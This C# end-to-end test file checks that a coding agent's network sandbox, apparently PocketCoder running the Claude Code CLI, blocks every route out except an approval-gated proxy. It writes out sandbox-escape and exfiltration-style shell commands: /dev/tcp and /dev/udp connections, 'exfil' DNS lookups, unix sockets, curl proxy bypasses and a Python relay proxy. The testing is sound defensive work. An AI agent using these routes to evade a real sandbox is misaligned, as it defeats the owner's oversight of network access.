using System.Net;
using System.Text.Json;
using FakeLlm;
using PocketCoder.Tests.Infrastructure;

namespace PocketCoder.Tests.EndToEnd;

/// <summary>
/// The sandbox holds the network (docs/security.md, "The network"), with the REAL Claude Code CLI in one world for the class: it
/// reaches its model (the fake one, on this machine's loopback) through PocketCoder, and an allowed command reaches nothing
/// else, by any route other sandboxes were found leaking through, unless the owner allows it on the phone.
/// </summary>
public sealed class NetworkSandboxTests(NetworkSandboxTests.World fixture) : IClassFixture<NetworkSandboxTests.World>
{
    /// <summary>Names the tests give to hosts "on the internet": the server connects to them at the test's own listeners.</summary>
    private const string Blocked = "blocked.pocketcoder.test";
    private const string Relayed = "relayed.pocketcoder.test";
    private const string Files = "files.pocketcoder.test";

    public sealed class World : IAsyncLifetime
    {
        public OutsideListeners Outside { get; } = new();

        public AgentWorld Agent { get; private set; } = null!;

        /// <summary>The path and abstract unix sockets outside.</summary>
        public string PathSocket { get; } = Path.Combine("/var/tmp", $"pc-net-{Guid.NewGuid():N}.sock");

        public string AbstractSocket { get; } = $"pc-net-{Guid.NewGuid():N}";

        public int Loopback { get; private set; }

        public int OtherLoopback { get; private set; }

        public int Ipv6Loopback { get; private set; }

        public int Dns { get; private set; }

        /// <summary>The port every named host answers on (an HTTP server that says "hello from outside").</summary>
        public int Internet { get; private set; }

        public async Task InitializeAsync()
        {
            Loopback = Outside.Tcp("loopback", IPAddress.Loopback);
            OtherLoopback = Outside.Tcp("other loopback address", IPAddress.Parse("127.0.0.2"));
            Ipv6Loopback = Outside.Tcp("IPv6 loopback", IPAddress.IPv6Loopback);
            Dns = Outside.Udp("DNS server");
            Internet = Outside.Tcp("the internet", IPAddress.Loopback, "hello from outside");
            Outside.Unix("path unix socket", PathSocket);
            Outside.Unix("abstract unix socket", "\0" + AbstractSocket);
            var hosts = new Dictionary<string, string> { [Blocked] = "127.0.0.1", [Relayed] = "127.0.0.1", [Files] = "127.0.0.1" };
            Agent = await AgentWorld.StartAsync("claude-code", ClaudeCli.Against, networkHosts: hosts);
        }

        public async Task DisposeAsync()
        {
            await Agent.DisposeAsync();
            await Outside.DisposeAsync();
        }
    }

    private AgentWorld Agent => fixture.Agent;

    /// <summary>
    /// Every way out but the proxy reaches nothing, each tried by a command the owner allowed (a trusted session): this machine's
    /// loopback by port, by another address, by IPv6, by a raw IP without the proxy (<c>--noproxy</c>, <c>--resolve</c>); a DNS
    /// server and a name lookup; a unix socket by path and by abstract name; through the proxy, this machine's loopback is refused
    /// unasked, and a host nobody allowed is asked about and reached only if allowed, even through a second proxy the command starts
    /// inside. The agent meanwhile reached its model, on this machine's loopback, through PocketCoder.
    /// </summary>
    [Fact]
    public async Task AllowedCommand_EveryRouteOutButTheProxy_ReachesNothing_AndTheProxyAsks()
    {
        File.WriteAllText(Path.Combine(Agent.Repository, "relay.py"), RelayScript);
        var (outside, loopback) = (fixture.Outside, fixture.Loopback);
        string[] commands =
        [
            "mkdir -p seen",
            $"(exec 3<>/dev/tcp/127.0.0.1/{loopback} && echo reached) > seen/loopback.txt 2>&1; true",
            $"(exec 3<>/dev/tcp/127.0.0.2/{fixture.OtherLoopback} && echo reached) > seen/other-address.txt 2>&1; true",
            $"(exec 3<>/dev/tcp/::1/{fixture.Ipv6Loopback} && echo reached) > seen/ipv6.txt 2>&1; true",
            $"(echo exfil > /dev/udp/127.0.0.1/{fixture.Dns}; echo exfil > /dev/udp/127.0.0.53/53; getent hosts secret.exfil.pocketcoder.test && echo resolved) > seen/dns.txt 2>&1; true",
            $"python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print(\"reached\")' {fixture.PathSocket} > seen/path-socket.txt 2>&1; true",
            $"python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0\"+sys.argv[1]); print(\"reached\")' {fixture.AbstractSocket} > seen/abstract.txt 2>&1; true",
            $"curl -sS --max-time 30 --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{loopback}/ > seen/proxy-loopback.txt 2>&1; true",
            $"curl -sS --max-time 5 --noproxy '*' --resolve {Blocked}:{fixture.Internet}:127.0.0.1 http://{Blocked}:{fixture.Internet}/ > seen/noproxy.txt 2>&1; true",
            $"(unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; curl -sS --max-time 5 http://127.0.0.1:{fixture.Internet}/) > seen/unset.txt 2>&1; true",
            $"curl -sS --max-time 60 https://{Blocked}:{fixture.Internet}/ > seen/connect.txt 2>&1; true",
            $"python3 relay.py 9999 ${{HTTPS_PROXY##*:}} & sleep 1; curl -sS --max-time 60 -x http://127.0.0.1:9999 https://{Relayed}:{fixture.Internet}/ > seen/relayed.txt 2>&1; kill $!; true",
        ];

        var (session, asked) = await RunAsync(commands, decide: _ => "deny");

        Assert.True(outside.Summary().Length == 0, $"reached from the sandbox: {outside.Summary()}");
        foreach (var file in new[] { "loopback", "other-address", "ipv6", "path-socket", "abstract", "noproxy", "unset", "connect", "relayed" })
        {
            Assert.DoesNotContain("reached", await SeenAsync(file), StringComparison.Ordinal);
            Assert.DoesNotContain("hello from outside", await SeenAsync(file), StringComparison.Ordinal);
        }

        Assert.DoesNotContain("resolved", await SeenAsync("dns"), StringComparison.Ordinal);
        // Through the proxy: this machine is refused without asking anyone; the hosts nobody allowed were asked about, and denied.
        Assert.Contains("this machine", await SeenAsync("proxy-loopback"), StringComparison.Ordinal);
        Assert.Equal([$"network:{Blocked}:{fixture.Internet}", $"network:{Relayed}:{fixture.Internet}"], asked.Select(a => a.Str("tool")!).ToArray());
        Assert.All(asked, a => Assert.Equal("network", a.Str("kind")));
        Assert.Contains("curl", asked[0].Json.GetProperty("input").GetProperty("by").GetString(), StringComparison.Ordinal);
        // The session's timeline has each connection; the agent's own model (on this machine's loopback, reached through
        // PocketCoder) once its connection ends, with the session.
        var response = await Agent.Http.DeleteAsync($"/api/sessions/{session}");
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
        await using var events = await Agent.EventsAsync(session, "0");
        await events.WaitForAsync(e => e.Event == "network.connection" && e.Str("reason") == "the agent's model" && e.Json.GetProperty("received").GetInt64() > 0);
        var connections = events.Received.Where(e => e.Event == "network.connection").Select(e => e.Json).ToList();
        Assert.Contains(connections, c => c.GetProperty("host").GetString() == Blocked && c.GetProperty("outcome").GetString() == "denied");
        Assert.Contains(connections, c => c.GetProperty("host").GetString() == "127.0.0.1" && c.GetProperty("port").GetInt32() == loopback
            && c.GetProperty("outcome").GetString() == "denied");
    }

    // A second proxy an allowed command could start inside: it only relays to PocketCoder's, which still sees the host asked for.
    private const string RelayScript = """
        import socket, sys, threading
        listen, upstream = int(sys.argv[1]), int(sys.argv[2])
        server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("127.0.0.1", listen))
        server.listen(8)
        def pipe(a, b):
            try:
                while True:
                    data = a.recv(65536)
                    if not data:
                        break
                    b.sendall(data)
            except OSError:
                pass
            try:
                b.shutdown(socket.SHUT_WR)
            except OSError:
                pass
        while True:
            client, _ = server.accept()
            host = socket.create_connection(("127.0.0.1", upstream))
            threading.Thread(target=pipe, args=(client, host), daemon=True).start()
            threading.Thread(target=pipe, args=(host, client), daemon=True).start()
        """;

    /// <summary>One trusted turn running each command; the session, and the network approvals it raised (decided by <paramref name="decide"/>).</summary>
    private async Task<(string Session, List<SseEvent> Asked)> RunAsync(string[] commands, Func<SseEvent, string> decide)
    {
        Agent.Model.Enqueue([.. commands.Select(Agent.ShellCall), ScriptedReply.Text("All run.")]);
        var session = await Agent.StartSessionAsync("Run the commands", mode: "trusted");
        await using var events = await Agent.EventsAsync(session);
        var asked = new List<SseEvent>();
        long seen = 0;
        while (await events.WaitForAsync(e => e.Id > seen && e.Event is "approval.requested" or "turn.completed") is { Event: "approval.requested" } approval)
        {
            seen = approval.Id;
            asked.Add(approval);
            await ApiAssert.OkJsonAsync(await Agent.DecideAsync(approval.Str("approvalId")!, decide(approval)));
        }

        Assert.Equal(commands.Length, events.Received.Count(e => e.Event == "tool.result"));
        return (session, asked);
    }

    private Task<string> SeenAsync(string name) => File.ReadAllTextAsync(Path.Combine(Agent.Repository, "seen", name + ".txt"));
}
